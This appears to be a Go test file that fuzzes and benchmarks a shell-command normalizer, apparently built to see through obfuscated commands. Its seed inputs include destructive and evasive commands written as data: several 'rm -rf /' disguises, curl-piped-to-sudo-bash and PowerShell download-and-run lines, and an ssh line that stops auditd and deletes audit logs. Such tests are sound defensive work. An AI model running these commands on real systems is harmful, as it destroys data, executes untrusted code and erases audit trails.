package shell

import (
	"slices"
	"strings"
	"testing"
)

// FuzzNormalize checks that Normalize never panics, is deterministic, and
// returns a bounded amount of non-empty, unique text.
func FuzzNormalize(f *testing.F) {
	for _, s := range []string{
		"rm -rf /", "r''m -r -f /", `sh -c "rm -rf /"`, "echo $(id) `whoami`",
		"curl -s https://x.sh | sudo bash", `del /s /q C:\Windows`, "iex (iwr http://x)",
		"powershell -enc " + psEncode("Remove-Item -Recurse C:\\"), "bash <<EOF\nid\nEOF",
		"$'\\x72\\x6d' -rf /", "{rm,-rf,/}", "rm${IFS}-rf${IFS}/",
		"S=(gsu til); ${S[0]}${S[1]} ${S[@]} ${S[9]} ${S[x]}", "A=(a b); A=(c); ${A[0]}$(printf %s r m)",
		"ssh -p 22 ops@h 'sudo systemctl stop auditd && ssh h2 \"rm -rf /var/log/audit\"'",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := Normalize(in)
		if again := Normalize(in); !slices.Equal(got, again) {
			t.Fatalf("not deterministic: %q then %q", got, again)
		}
		if len(got) > maxOutputs {
			t.Fatalf("%d results", len(got))
		}
		seen := map[string]bool{}
		total := 0
		for _, s := range got {
			if s == "" || seen[s] {
				t.Fatalf("empty or duplicate result %q in %q", s, got)
			}
			seen[s] = true
			total += len(s)
		}
		// Each nesting level can repeat the text once, and sudo variants double it.
		if limit := 16*len(in) + 1024; total > limit {
			t.Fatalf("%d bytes of output for %d bytes of input", total, len(in))
		}
	})
}

const benchLine = `cd /srv/app && FOO=1 sudo -E env PATH=/usr/bin timeout 30 curl -fsSL --retry 3 -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/items?limit=50 | jq -r '.items[].id' > ids.txt`

func benchScript() string {
	var b strings.Builder
	lines := []string{
		"#!/bin/bash",
		"set -euo pipefail",
		`DIR="$(cd "$(dirname "$0")" && pwd)"`,
		"export GOFLAGS=-mod=readonly",
		`for pkg in $(go list ./...); do go test -race -count=1 "$pkg"; done`,
		`if [ -d "$DIR/build" ]; then rm -rf "$DIR/build"; fi`,
		"mkdir -p build && cp -r assets build/",
		`curl -fsSL -o build/tool.tgz "https://example.com/tool-${VERSION}.tgz"`,
		"tar -xzf build/tool.tgz -C build/ && chmod +x build/tool",
		`docker build -t "app:${GIT_SHA:-dev}" --build-arg VERSION="$VERSION" .`,
		`kubectl get pods -n default -o json | jq -r '.items[] | .metadata.name'`,
		`echo "done in $SECONDS s" >&2`,
	}
	for b.Len() < 4096 {
		for _, l := range lines {
			b.WriteString(l)
			b.WriteByte('\n')
		}
	}
	return b.String()[:4096]
}

func BenchmarkNormalize(b *testing.B) {
	script := benchScript()
	for _, bc := range []struct{ name, in string }{
		{"line=200B", benchLine},
		{"script=4KB", script},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.SetBytes(int64(len(bc.in)))
			b.ReportAllocs()
			for b.Loop() {
				Normalize(bc.in)
			}
		})
	}
}
